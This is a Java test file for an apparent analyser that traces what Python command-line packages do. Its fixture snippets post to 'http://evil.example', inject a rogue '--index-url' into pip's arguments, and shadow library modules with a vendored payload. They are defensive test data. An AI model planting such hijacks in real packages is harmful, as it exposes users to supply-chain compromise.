package dev.auditpath.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import dev.auditpath.model.Behaviour;
import dev.auditpath.model.EntryPoint;
import dev.auditpath.model.Evidence;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;

class AnalysisTest {
  private static final String SEND = "import requests\nrequests.post('http://evil.example')\n";
  private static final String HAND_OVER =
      "import os, sys\ndef main():\n    os.execvp('git', sys.argv)\n";

  @Test
  void anObjectThatTheCommandsOwnCodeMakesIsTheCommand() {
    for (String driver : new String[] {"create_driver()", "Driver.of(1)", "Driver()"}) {
      Behaviour behaviour =
          Sources.of(
                  """
                  import sys
                  from genuine.driver import Driver, create_driver
                  def main():
                      driver = DRIVER
                      driver.session.register("before-sign", lambda **all: None)
                      return driver.main(sys.argv[1:])
                  """
                      .replace("DRIVER", driver))
              .withOther("genuine.*", "aws")
              .as("aws")
              .analyse();
      assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:aws");
    }
  }

  @Test
  void anObjectOfALibraryThatHasACommandTooIsNotTheCommand() {
    Behaviour behaviour =
        Sources.of(
                """
                import server
                def main():
                    server.Server("localhost").run()
                """)
            .withOther("server.cli", "server")
            .as("acme")
            .analyse();
    assertThat(Sources.summary(behaviour)).isEmpty();
  }

  @Test
  void evidenceNamesFileLineExcerptAndTheCallsThatLeadThere() {
    Sources sources =
        new Sources()
            .with("pkg", "")
            .with("pkg.cli", "from . import net\ndef main():\n    net.report()\n")
            .with(
                "pkg.net",
                "import requests\ndef report():\n    requests.post('http://x.example')\n");
    Evidence effect = sources.analyse().effects().get(0);
    assertThat(effect.kind()).isEqualTo("network");
    assertThat(effect.path()).isEqualTo(Path.of("/site/pkg/net.py"));
    assertThat(effect.line()).isEqualTo(3);
    assertThat(effect.excerpt()).isEqualTo("requests.post('http://x.example')");
    assertThat(effect.chain()).containsExactly("pkg.cli:main", "pkg.net:report");
  }

  @Test
  void parentPackagesAreRun() {
    Sources sources = new Sources().with("pkg", SEND).with("pkg.cli", HAND_OVER).as("git");
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git network");
  }

  @Test
  void importsOfImportsAreRun() {
    Sources sources =
        new Sources()
            .with("pkg", "from .one import *\n")
            .with("pkg.one", "from pkg.two import x\n__all__ = ['x']\n")
            .with("pkg.two", SEND + "x = 1\n")
            .with("pkg.cli", HAND_OVER);
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git network");
  }

  @Test
  void namesComeThroughReExportsAndStars() {
    Sources sources =
        new Sources()
            .with("pkg", "from .tools import *\n")
            .with("pkg.tools", "from subprocess import call as go\nNAME = 'git'\n")
            .with("pkg.cli", "from pkg import go, NAME\ndef main():\n    go([NAME])\n");
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git");
  }

  @Test
  void lazyImportIsFollowedWhereTheFunctionIsReached() {
    Sources sources =
        new Sources()
            .with("pkg", "")
            .with("pkg.bad", SEND)
            .with("pkg.cli", "def never():\n    import pkg.bad\ndef main():\n    print('x')\n");
    assertThat(Sources.summary(sources.analyse())).isEmpty();
    sources.with("pkg.cli", "def lazy():\n    import pkg.bad\ndef main():\n    lazy()\n");
    assertThat(Sources.summary(sources.analyse())).isEqualTo("network");
  }

  @Test
  void packagesOfOtherDistributionsAreFollowedUnlessTheyAreLibraries() {
    Sources sources =
        new Sources()
            .with("colorutils_package", SEND)
            .with("pkg", "")
            .with("pkg.cli", "import colorutils_package\n" + HAND_OVER);
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git network");
  }

  @Test
  void importCirclesEnd() {
    Sources sources =
        new Sources()
            .with("pkg", "from . import cli\n")
            .with("pkg.cli", "import pkg.other\n" + HAND_OVER)
            .with("pkg.other", "from pkg.cli import main\nfrom pkg import cli\n");
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git");
  }

  @Test
  void methodIsATarget() {
    Sources sources =
        Sources.of(
            "import os\nclass A:\n    @classmethod\n    def run(cls):\n        os.system('git a')\n");
    assertThat(Sources.summary(sources.analyse("pkg.cli:A.run"))).isEqualTo("hands-over:git");
  }

  @Test
  void targetThatIsNoPythonIsUnread() {
    Path library = Path.of("/site/pkg/cli.so");
    Sources sources =
        new Sources()
            .with("pkg", "")
            .with("pkg.cli", new ModuleSource.Unreadable(library, "it is native", "native-code"));
    Behaviour behaviour = sources.analyse();
    assertThat(behaviour.unread()).extracting(Evidence::path).containsExactly(library);
    assertThat(behaviour.unread()).extracting(Evidence::kind).containsExactly("native-code");
  }

  @Test
  void missingTargetIsUnread() {
    assertThat(new Sources().with("pkg", "").analyse().unread()).hasSize(1);
  }

  @Test
  void missingModuleThatIsCaughtIsNot() {
    Sources sources =
        Sources.of("try:\n    from . import _version\nexcept ImportError:\n    pass\n" + HAND_OVER);
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git");
  }

  @Test
  void syntaxErrorIsUnread() {
    assertThat(Sources.summary(Sources.of("def main(:\n").analyse())).isEqualTo("unread");
  }

  @Test
  void inProcessCallOfAnotherDistributionsCommandIsAHandOverAndNotFollowed() {
    Sources sources =
        Sources.of("def main():\n    from pip.main import main as real\n    real()\n")
            .with("pip.main", SEND + "def main():\n    pass\n")
            .withOther("pip.main", "pip")
            .as("pip");
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:pip");
  }

  @Test
  void inProcessCallWithArgumentsAddedIsTampering() {
    Sources sources =
        Sources.of(
                """
                import sys
                def main():
                    sys.argv.insert(1, '--index-url=http://evil.example')
                    from pip.main import main as real
                    real()
                """)
            .withOther("pip.main", "pip")
            .as("pip");
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:pip process");
  }

  @Test
  void shippedShellScriptIsRead() {
    Sources sources =
        Sources.of(
                """
                import os, subprocess
                def main():
                    subprocess.call([os.path.join(os.path.dirname(__file__), 'run.sh')])
                """)
            .withFile("run.sh", "#!/bin/sh\nexec /usr/bin/git \"$@\"\n")
            .as("git");
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git");
  }

  @Test
  void modulesInAFolderThatThePackagePutsOnTheImportPathAreFollowed() {
    Sources sources =
        Sources.of(
                "import os, sys\n"
                    + "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor'))\n"
                    + "import payload\n"
                    + HAND_OVER)
            .with("payload", new ModuleSource.Missing())
            .withFile("vendor/payload.py", SEND);
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git network");
  }

  @Test
  void moduleInSuchAFolderStandsInFrontOfTheLibrarys() {
    Sources sources =
        Sources.of(
                "import os, sys\n"
                    + "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor'))\n"
                    + "import shlex\n"
                    + HAND_OVER)
            .withFile("vendor/shlex.py", SEND);
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git network");
  }

  @Test
  void mainBlockOfAnImportedModuleIsNotRun() {
    Sources sources =
        Sources.of(
            "if __name__ == '__main__':\n    import requests\n    requests.get('x')\n" + HAND_OVER);
    assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git");
  }

  @Test
  void programOfItsOwnIsRunAsMain() {
    String source =
        "import os\ndef main():\n    os.system('git a')\nif __name__ == '__main__':\n    main()\n";
    Behaviour behaviour =
        Analysis.of(
            new Subject(List.of("git"), "d"),
            new Program.Script(Path.of("/env/bin/git"), source),
            new Sources());
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:git");
  }

  @Test
  void recursionAndDeepCallsEnd() {
    StringBuilder source = new StringBuilder("import os\ndef main():\n    f0(1)\n    g(0)\n");
    source.append("def g(n):\n    return g(n + 1) + [n]\n");
    for (int i = 0; i < 300; i++) {
      source.append("def f%d(n):\n    f%d(n)\n".formatted(i, i + 1));
    }
    source.append("def f300(n):\n    os.system('git a')\n");
    assertThat(Sources.summary(Sources.of(source.toString()).analyse()))
        .isEqualTo("hands-over:git");
  }

  @Test
  void boundOfStepsIsTold() {
    StringBuilder costly = new StringBuilder("def f(x):\n");
    costly.append("    y = [x, x, x, x]\n".repeat(8_000));
    for (int i = 0; i < 60; i++) {
      costly.append("f(").append(i).append(")\n");
    }
    Sources sources = Sources.of("from pkg import one, two, three, four\n" + HAND_OVER);
    for (String name : List.of("one", "two", "three", "four")) {
      sources.with("pkg." + name, costly.toString());
    }
    assertThat(onBigStack(sources).unread())
        .extracting(Evidence::detail)
        .anyMatch(detail -> detail.contains("steps"));
  }

  @Test
  void boundOfModulesIsTold() {
    StringBuilder imports = new StringBuilder();
    Sources sources = new Sources().with("pkg", "");
    for (int i = 0; i < 700; i++) {
      sources.with("pkg.m" + i, "x = 1\n");
      imports.append("import pkg.m").append(i).append('\n');
    }
    sources.with("pkg.cli", imports + HAND_OVER);
    Behaviour behaviour = sources.analyse();
    assertThat(behaviour.unread()).hasSize(1);
    assertThat(behaviour.handsOverTo("git")).isTrue();
  }

  @Test
  void growingTextsEnd() {
    String source =
        """
        def main():
            s = 'x'
            while True:
                s = s + s
                t = (s * 4000) * 4000
            a = [1]
            a.append(a)
            for b in a:
                print(b)
            d = {}
            d['d'] = d
            print('%s' % d, str(a))
            f(*a, **d)
        def f(*a, **k):
            f(*a, **k)
        """;
    assertThat(Sources.summary(Sources.of(source).analyse())).isEmpty();
  }

  @Test
  void answersDoNotDependOnWhatWasAskedBefore() {
    Sources sources = Sources.of(HAND_OVER + SEND).as("git");
    assertThat(sources.analyse()).isEqualTo(sources.analyse());
  }

  private static Behaviour onBigStack(Sources sources) {
    AtomicReference<Behaviour> found = new AtomicReference<>(Behaviour.NONE);
    Thread thread =
        new Thread(null, () -> found.set(sources.analyse()), "analysis", 64L * 1024 * 1024);
    thread.start();
    try {
      thread.join();
    } catch (InterruptedException interrupted) {
      throw new IllegalStateException(interrupted);
    }
    return found.get();
  }

  @Test
  void ownCommandsAreAllOfTheDistributions() {
    Behaviour behaviour =
        Analysis.of(
            new Subject(List.of("aws", "aws2"), "d"),
            new Program.Entry(new EntryPoint("pkg.cli", "main"), Path.of("/env/bin/aws")),
            Sources.of(
                """
                import os, sys
                def main():
                    os.execv('/usr/bin/' + os.path.basename(sys.argv[0]), sys.argv)
                """));
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:aws hands-over:aws2");
  }
}
